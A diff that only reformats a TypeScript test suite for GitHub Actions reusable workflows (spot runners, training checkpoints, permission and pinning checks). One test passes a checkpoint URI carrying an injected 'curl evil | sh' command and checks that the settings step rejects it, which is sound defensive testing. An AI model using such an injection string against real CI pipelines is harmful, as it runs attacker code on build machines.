@@ -41,11 +41,17 @@ const OWNED = ['provision-spot-runner.yml', 'spot-job.yml', 'kani-proofs.yml', '
 /** provision-spot-runner's start job inherits the caller's permissions, so the seed caller (which grants no id-token) can load it. */
 const INHERITS_PERMISSIONS: Record<string, string[]> = { 'provision-spot-runner.yml': ['start'] };
 
-const yamlFiles = (dir: string) => (existsSync(dir) ? readdirSync(dir).filter((f) => /\.ya?ml$/.test(f)).sort() : []);
+const yamlFiles = (dir: string) =>
+  existsSync(dir)
+    ? readdirSync(dir)
+        .filter((f) => /\.ya?ml$/.test(f))
+        .sort()
+    : [];
 const workflowFiles = yamlFiles(WF_DIR);
 const exampleFiles = yamlFiles(EX_DIR);
 const read = (path: string) => readFileSync(path, 'utf8');
-const resolveLocal = (file: string): Obj | undefined => (existsSync(join(WF_DIR, file)) ? loadWorkflow(join(WF_DIR, file)) : undefined);
+const resolveLocal = (file: string): Obj | undefined =>
+  existsSync(join(WF_DIR, file)) ? loadWorkflow(join(WF_DIR, file)) : undefined;
 const calledOutputs = (uses: string): string[] | undefined => {
   const file = calledFile(uses);
   const wf = file ? resolveLocal(file) : undefined;
@@ -68,7 +74,12 @@ const SEED_CALLER = `provision-spot-runner:
 `;
 
 /** Runs one `run:` step of a workflow with bash, the way the runner does (bash -e), with the given env. */
-function runStep(file: string, job: string, stepName: string, env: Record<string, string>): { code: number; out: string; outputs: string } {
+function runStep(
+  file: string,
+  job: string,
+  stepName: string,
+  env: Record<string, string>,
+): { code: number; out: string; outputs: string } {
   const wf = loadWorkflow(join(WF_DIR, file));
   const steps = ((wf.jobs as Obj)[job] as Obj).steps as Obj[];
   const step = steps.find((s) => s.name === stepName);
@@ -79,13 +90,23 @@ function runStep(file: string, job: string, stepName: string, env: Record<string
   writeFileSync(script, step.run);
   writeFileSync(output, '');
   const r = spawnSync('bash', ['-e', script], {
-    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', GITHUB_OUTPUT: output, GITHUB_STEP_SUMMARY: join(dir, 'summary'), ...env },
+    env: {
+      PATH: process.env.PATH ?? '/usr/bin:/bin',
+      GITHUB_OUTPUT: output,
+      GITHUB_STEP_SUMMARY: join(dir, 'summary'),
+      ...env,
+    },
     encoding: 'utf8',
   });
   return { code: r.status ?? -1, out: `${r.stdout}${r.stderr}`, outputs: read(output) };
 }
 const outputsOf = (raw: string): Record<string, string> =>
-  Object.fromEntries(raw.split('\n').filter((l) => /^[\w-]+=/.test(l)).map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]));
+  Object.fromEntries(
+    raw
+      .split('\n')
+      .filter((l) => /^[\w-]+=/.test(l))
+      .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]),
+  );
 
 describe('the workflows exist', () => {
   it.each(OWNED)('%s is present and callable', (file) => {
@@ -93,10 +114,17 @@ describe('the workflows exist', () => {
     expect(callTrigger(wf)).toBeDefined();
   });
   it('train.yml can also be dispatched by hand', () => {
-    expect(isObj(loadWorkflow(join(WF_DIR, 'train.yml')).on) && 'workflow_dispatch' in (loadWorkflow(join(WF_DIR, 'train.yml')).on as Obj)).toBe(true);
+    expect(
+      isObj(loadWorkflow(join(WF_DIR, 'train.yml')).on) &&
+        'workflow_dispatch' in (loadWorkflow(join(WF_DIR, 'train.yml')).on as Obj),
+    ).toBe(true);
   });
   it.each(OWNED)('%s has an example caller in docs/examples', (file) => {
-    const callers = exampleFiles.filter((ex) => Object.values((loadWorkflow(join(EX_DIR, ex)).jobs as Obj) ?? {}).some((j) => isObj(j) && typeof j.uses === 'string' && calledFile(j.uses) === file));
+    const callers = exampleFiles.filter((ex) =>
+      Object.values((loadWorkflow(join(EX_DIR, ex)).jobs as Obj) ?? {}).some(
+        (j) => isObj(j) && typeof j.uses === 'string' && calledFile(j.uses) === file,
+      ),
+    );
     expect(callers.length).toBeGreaterThan(0);
   });
 });
@@ -122,7 +150,8 @@ describe('actionlint', () => {
     }
   });
   it('reports a broken workflow', async () => {
-    const broken = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.head_commit.message }}"\n      - uses: actions/checkout@v4\n        with: { nope: 1 }\n';
+    const broken =
+      'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.head_commit.message }}"\n      - uses: actions/checkout@v4\n        with: { nope: 1 }\n';
     const findings = await actionlint(broken, 'broken.yml');
     expect(findings.some((f) => f.includes('potentially untrusted'))).toBe(true);
     expect(findings.some((f) => f.includes('input "nope" is not defined'))).toBe(true);
@@ -139,7 +168,8 @@ describe('interface of every workflow in .github/workflows', () => {
     const callable = callTrigger(wf) !== undefined;
     it('uses every workflow_call input and secret', () => expect(checkInterfaceUsed(wf)).toEqual([]));
     it('maps every output to a job output that exists', () => expect(checkWorkflowOutputs(wf)).toEqual([]));
-    it('reads needs.X.outputs.Y only where X is needed and declares Y', () => expect(checkNeedsRefs(wf, calledOutputs)).toEqual([]));
+    it('reads needs.X.outputs.Y only where X is needed and declares Y', () =>
+      expect(checkNeedsRefs(wf, calledOutputs)).toEqual([]));
     it('reads steps.S only for step ids of the same job', () => expect(checkStepRefs(wf)).toEqual([]));
     it(`gives the action only inputs from action.yml${callable ? `, as ${ACTION_REF}` : ''}`, () => {
       // A callable workflow runs in the caller's repository, where ./ is not this action.
@@ -154,15 +184,20 @@ describe('policy of the reusable workflows', () => {
     const wf = loadWorkflow(join(WF_DIR, file));
     it('documents every input and secret', () => expect(checkDescriptions(wf)).toEqual([]));
     it('pins third-party actions to a commit SHA', () => expect(checkPinned(wf)).toEqual([]));
-    it('passes values to scripts through env, never ${{ }} inside run:', () => expect(checkNoExpressionsInRun(wf)).toEqual([]));
-    it('sets timeout-minutes and permissions on every job', () => expect(checkJobHygiene(wf, INHERITS_PERMISSIONS[file])).toEqual([]));
+    it('passes values to scripts through env, never ${{ }} inside run:', () =>
+      expect(checkNoExpressionsInRun(wf)).toEqual([]));
+    it('sets timeout-minutes and permissions on every job', () =>
+      expect(checkJobHygiene(wf, INHERITS_PERMISSIONS[file])).toEqual([]));
     it('asks for id-token: write only where a role is assumed', () => expect(checkIdToken(wf)).toEqual([]));
-    it("leaves the fork guard to the action: passes inputs.allow-forks, keeps no copy", () => expect(checkForkGuard(wf)).toEqual([]));
+    it('leaves the fork guard to the action: passes inputs.allow-forks, keeps no copy', () =>
+      expect(checkForkGuard(wf)).toEqual([]));
     it('declares allow-forks as a boolean that defaults to false', () => {
       expect(callInputs(wf)['allow-forks']).toMatchObject({ type: 'boolean', default: false });
     });
     it('writes a version comment next to every pinned SHA', () => {
-      for (const line of read(join(WF_DIR, file)).split('\n').filter((l) => /uses: \S+@[0-9a-f]{40}/.test(l))) {
+      for (const line of read(join(WF_DIR, file))
+        .split('\n')
+        .filter((l) => /uses: \S+@[0-9a-f]{40}/.test(l))) {
         expect(line).toMatch(/@[0-9a-f]{40} # v\d/);
       }
     });
@@ -190,7 +225,9 @@ describe('the seed caller', () => {
   const seed = parseWorkflow(seedText);
 
   it('docs/examples/seed-caller.yml embeds the seed caller exactly as written', () => {
-    const indented = SEED_CALLER.split('\n').map((l) => (l ? `  ${l}` : l)).join('\n');
+    const indented = SEED_CALLER.split('\n')
+      .map((l) => (l ? `  ${l}` : l))
+      .join('\n');
     expect(seedText).toContain(indented);
   });
   it('validates against provision-spot-runner.yml: inputs declared, types right, required present', () => {
@@ -202,8 +239,18 @@ describe('the seed caller', () => {
     expect(later['runs-on']).toEqual(['self-hosted', 'Linux', 'X64', 'spot', 'kani']);
   });
   it('declares every secret the seed passes by inherit', () => {
-    const secrets = Object.keys((callTrigger(loadWorkflow(join(WF_DIR, 'provision-spot-runner.yml')))?.secrets as Obj) ?? {});
-    expect(secrets).toEqual(expect.arrayContaining(['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SUBNET_ID', 'AWS_SECURITY_GROUP_ID', 'KANI_RUNNER_AMI_ID']));
+    const secrets = Object.keys(
+      (callTrigger(loadWorkflow(join(WF_DIR, 'provision-spot-runner.yml')))?.secrets as Obj) ?? {},
+    );
+    expect(secrets).toEqual(
+      expect.arrayContaining([
+        'AWS_ACCESS_KEY_ID',
+        'AWS_SECRET_ACCESS_KEY',
+        'AWS_SUBNET_ID',
+        'AWS_SECURITY_GROUP_ID',
+        'KANI_RUNNER_AMI_ID',
+      ]),
+    );
   });
 });
 
@@ -224,20 +271,47 @@ describe('provision-spot-runner.yml settings step (run with bash)', () => {
     HAS_RUNNER_TOKEN: 'true',
     REPOSITORY: 'BTCDecoded/blvm-consensus',
   };
-  const settings = (env: Record<string, string>) => runStep('provision-spot-runner.yml', 'start', 'Resolve settings', env);
+  const settings = (env: Record<string, string>) =>
+    runStep('provision-spot-runner.yml', 'start', 'Resolve settings', env);
 
   it('maps the seed call to the custom labels, its instance type and the benchmark defaults', () => {
     const r = settings(seedEnv);
     expect(r.code).toBe(0);
-    expect(outputsOf(r.outputs)).toMatchObject({ auth: 'keys', labels: 'spot,benchmark', 'instance-types': 'c6i.8xlarge', market: 'on-demand', 'on-demand-fallback': 'false' });
+    expect(outputsOf(r.outputs)).toMatchObject({
+      auth: 'keys',
+      labels: 'spot,benchmark',
+      'instance-types': 'c6i.8xlarge',
+      market: 'on-demand',
+      'on-demand-fallback': 'false',
+    });
   });
   it('gives the default runner_labels spot and kani, so [self-hosted, Linux, X64, spot, kani] matches', () => {
-    const r = settings({ ...seedEnv, WORKLOAD_TYPE: 'proof', RUNNER_LABELS: 'self-hosted, Linux, X64, spot, kani', INSTANCE_TYPE: '' });
-    expect(outputsOf(r.outputs)).toMatchObject({ labels: 'spot,kani', market: 'spot', 'instance-types': 'c6i.4xlarge,c7i.4xlarge,c6a.4xlarge' });
+    const r = settings({
+      ...seedEnv,
+      WORKLOAD_TYPE: 'proof',
+      RUNNER_LABELS: 'self-hosted, Linux, X64, spot, kani',
+      INSTANCE_TYPE: '',
+    });
+    expect(outputsOf(r.outputs)).toMatchObject({
+      labels: 'spot,kani',
+      market: 'spot',
+      'instance-types': 'c6i.4xlarge,c7i.4xlarge,c6a.4xlarge',
+    });
   });
   it('lets explicit inputs win over the workload defaults', () => {
-    const r = settings({ ...seedEnv, INSTANCE_TYPES: 'c7i.8xlarge', MARKET: 'spot', MAX_LIFETIME: '90', IDLE_TIMEOUT: '5' });
-    expect(outputsOf(r.outputs)).toMatchObject({ 'instance-types': 'c7i.8xlarge', market: 'spot', 'max-lifetime': '90', 'idle-timeout': '5' });
+    const r = settings({
+      ...seedEnv,
+      INSTANCE_TYPES: 'c7i.8xlarge',
+      MARKET: 'spot',
+      MAX_LIFETIME: '90',
+      IDLE_TIMEOUT: '5',
+    });
+    expect(outputsOf(r.outputs)).toMatchObject({
+      'instance-types': 'c7i.8xlarge',
+      market: 'spot',
+      'max-lifetime': '90',
+      'idle-timeout': '5',
+    });
   });
   it('refuses unknown workloads, unsafe labels, missing credentials and a missing runner token', () => {
     expect(settings({ ...seedEnv, WORKLOAD_TYPE: 'mining' }).out).toMatch(/workload_type 'mining'/);
@@ -249,17 +323,30 @@ describe('provision-spot-runner.yml settings step (run with bash)', () => {
 });
 
 describe('train.yml settings step (run with bash)', () => {
-  const env = { CHECKPOINT_URI: 's3://ml-bucket/runs/base/', MAX_HOURS: '4', INSTANCE_PROFILE: 'trainer', AWS_REGION_INPUT: 'us-west-2', RESULTS_PATH: 'results/', ARTIFACT_NAME: 'training-results' };
+  const env = {
+    CHECKPOINT_URI: 's3://ml-bucket/runs/base/',
+    MAX_HOURS: '4',
+    INSTANCE_PROFILE: 'trainer',
+    AWS_REGION_INPUT: 'us-west-2',
+    RESULTS_PATH: 'results/',
+    ARTIFACT_NAME: 'training-results',
+  };
   const settings = (e: Record<string, string>) => runStep('train.yml', 'start', 'Resolve settings', e);
   it('installs an executable interruption hook that syncs the checkpoints to S3', () => {
     const r = settings(env);
     expect(r.code).toBe(0);
     const script = /pre-runner-script<<(\w+)\n([\s\S]*?)\n\1/.exec(r.outputs)?.[2] ?? '';
     expect(script).toContain('/etc/spot-runner/interruption.d/50-checkpoint');
-    expect(script).toContain("aws s3 sync --only-show-errors --region 'us-west-2' '/var/lib/spot-runner/checkpoints' 's3://ml-bucket/runs/base/'");
+    expect(script).toContain(
+      "aws s3 sync --only-show-errors --region 'us-west-2' '/var/lib/spot-runner/checkpoints' 's3://ml-bucket/runs/base/'",
+    );
     expect(script).toMatch(/chmod 0755 \/etc\/spot-runner\/interruption\.d\/50-checkpoint/);
     execFileSync('bash', ['-n'], { input: script }); // valid shell
-    expect(outputsOf(r.outputs)).toMatchObject({ 'timeout-minutes': '240', 'max-lifetime': '270', 'checkpoint-uri': 's3://ml-bucket/runs/base' });
+    expect(outputsOf(r.outputs)).toMatchObject({
+      'timeout-minutes': '240',
+      'max-lifetime': '270',
+      'checkpoint-uri': 's3://ml-bucket/runs/base',
+    });
   });
   it('refuses a checkpoint URI that could inject shell into the root hook', () => {
     const r = settings({ ...env, CHECKPOINT_URI: "s3://bucket/x'; curl evil | sh; '" });
@@ -276,7 +363,8 @@ describe('docs/examples', () => {
   describe.each(exampleFiles)('%s', (file) => {
     const wf = loadWorkflow(join(EX_DIR, file));
     it('validates against the workflows it calls', () => expect(checkCaller(wf, resolveLocal)).toEqual([]));
-    it('runs later jobs only on labels the runner carries', () => expect(checkStaticLabels(wf, resolveLocal)).toEqual([]));
+    it('runs later jobs only on labels the runner carries', () =>
+      expect(checkStaticLabels(wf, resolveLocal)).toEqual([]));
     it('reads only outputs that exist', () => {
       expect(checkNeedsRefs(wf, calledOutputs)).toEqual([]);
       expect(checkStepRefs(wf)).toEqual([]);
@@ -334,13 +422,19 @@ jobs:
         with: { mode: start, github-token: t }
 `);
   it('checkInterfaceUsed finds an unused input and secret', () => {
-    expect(checkInterfaceUsed(called)).toEqual(["input 'unused' is declared but never used", "secret 'UNUSED_SECRET' is declared but never used"]);
+    expect(checkInterfaceUsed(called)).toEqual([
+      "input 'unused' is declared but never used",
+      "secret 'UNUSED_SECRET' is declared but never used",
+    ]);
   });
   it('checkDescriptions finds an undocumented input', () => {
     expect(checkDescriptions(called)).toEqual(["input 'flag' has no description"]);
   });
   it('checkWorkflowOutputs finds outputs of missing jobs and missing job outputs', () => {
-    expect(checkWorkflowOutputs(called)).toEqual(["output 'missing-job': job 'nope' does not exist", "output 'missing-output': job 'a' has no output 'nope'"]);
+    expect(checkWorkflowOutputs(called)).toEqual([
+      "output 'missing-job': job 'nope' does not exist",
+      "output 'missing-output': job 'a' has no output 'nope'",
+    ]);
   });
   it('checkNeedsRefs finds needs.X without X in needs, and undeclared outputs', () => {
     expect(checkNeedsRefs(called)).toEqual([
@@ -379,20 +473,35 @@ jobs:
     expect(checkIdToken(called)).toEqual(["job 'a' asks for id-token: write but assumes no role"]);
   });
   it('expandComposites inlines spot-runner/spot-runner/credentials@v1 and refuses unknown or missing inputs', () => {
-    const call = { name: 'AWS credentials', uses: 'spot-runner/spot-runner/credentials@v1', with: { 'aws-region': '${{ inputs.aws-region }}', 'role-session-name': 'x' } };
+    const call = {
+      name: 'AWS credentials',
+      uses: 'spot-runner/spot-runner/credentials@v1',
+      with: { 'aws-region': '${{ inputs.aws-region }}', 'role-session-name': 'x' },
+    };
     const out = expandComposites([call], 'job');
-    expect(out.map((x) => x.name)).toEqual(['Check credentials', 'AWS credentials (OIDC)', 'AWS credentials (access keys)']);
+    expect(out.map((x) => x.name)).toEqual([
+      'Check credentials',
+      'AWS credentials (OIDC)',
+      'AWS credentials (access keys)',
+    ]);
     expect(out[1]?.if).toBe("steps.composite0__auth.outputs.method == 'oidc'");
     expect((out[1]?.with as Record<string, string>)['role-session-name']).toBe("${{ 'x' }}");
     expect((out[2]?.with as Record<string, string>)['aws-region']).toBe('${{ (inputs.aws-region) }}');
-    expect(() => expandComposites([{ ...call, with: { ...call.with, bogus: '1' } }], 'job')).toThrow(/with.bogus is not an input/);
+    expect(() => expandComposites([{ ...call, with: { ...call.with, bogus: '1' } }], 'job')).toThrow(
+      /with.bogus is not an input/,
+    );
     expect(() => expandComposites([{ ...call, with: {} }], 'job')).toThrow(/required input 'aws-region'/);
     expect(() => expandComposites([{ uses: 'spot-runner/spot-runner/nope@v1' }], 'job')).toThrow(/does not exist/);
   });
   it('checkForkGuard finds a start without allow-forks, and a copied guard step', () => {
-    expect(checkForkGuard(called)).toEqual(["job 'a' starts runners without passing inputs.allow-forks", "job 'c' starts runners without passing inputs.allow-forks"]);
+    expect(checkForkGuard(called)).toEqual([
+      "job 'a' starts runners without passing inputs.allow-forks",
+      "job 'c' starts runners without passing inputs.allow-forks",
+    ]);
     const copied = parseWorkflow('jobs:\n  s:\n    steps:\n      - name: Fork guard\n        run: exit 0\n');
-    expect(checkForkGuard(copied)).toEqual(["job 's' keeps its own fork guard step; the action's guard is the one place"]);
+    expect(checkForkGuard(copied)).toEqual([
+      "job 's' keeps its own fork guard step; the action's guard is the one place",
+    ]);
   });
   it('checkCaller finds unknown inputs, wrong types, missing inputs and secrets, and missing permissions', () => {
     const caller = parseWorkflow(`
